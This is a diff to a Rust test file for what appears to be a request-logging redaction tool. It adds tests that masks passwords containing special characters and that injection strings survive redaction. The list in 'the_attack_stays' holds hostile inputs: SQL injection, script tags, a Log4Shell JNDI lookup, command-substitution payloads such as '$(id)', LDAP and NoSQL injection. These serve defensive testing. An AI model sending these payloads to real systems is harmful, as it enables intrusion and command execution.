@@ -236,6 +236,29 @@ fn a_value_is_replaced_by_its_length() {
 }
 
 #[test]
+fn a_password_with_the_signs_that_rules_ask_for_is_a_secret() {
+    for (password, coded) in [
+        ("P@ssw0rd!", "P%40ssw0rd%21"),
+        ("Tr0ub4dor$3^", "Tr0ub4dor%243%5E"),
+        ("Wint*er2026", "Wint%2Aer2026"),
+    ] {
+        for request in [
+            request(&format!("/login?password={coded}&a=1")),
+            post("application/x-www-form-urlencoded", &format!("user=bob&password={password}")),
+            post("application/json", &format!("{{\"password\":\"{password}\"}}")),
+        ] {
+            let text = packet(plan(), &request);
+            assert!(
+                text.contains("[redacted:") && !text.contains(password) && !text.contains(coded),
+                "{text}"
+            );
+        }
+    }
+    let text = packet(plan(), &post("application/json", "{\"password\":\"P@ss#2026\"}"));
+    assert!(text.contains("[redacted:9]"), "{text}");
+}
+
+#[test]
 fn the_attack_stays() {
     for shown in [
         "/?password=' OR 1=1--",
@@ -244,6 +267,10 @@ fn the_attack_stays() {
         "/?token=<script>",
         "/?secret=${jndi:ldap://x/a}",
         "/?pwd=a|id",
+        "/?pwd=$(id)",
+        "/?pwd=*",
+        "/?pwd=*)(uid",
+        "/?pwd={$ne:1}",
     ] {
         let text = packet(plan(), &request(shown));
         let expected = shown.split('=').nth(1).unwrap();
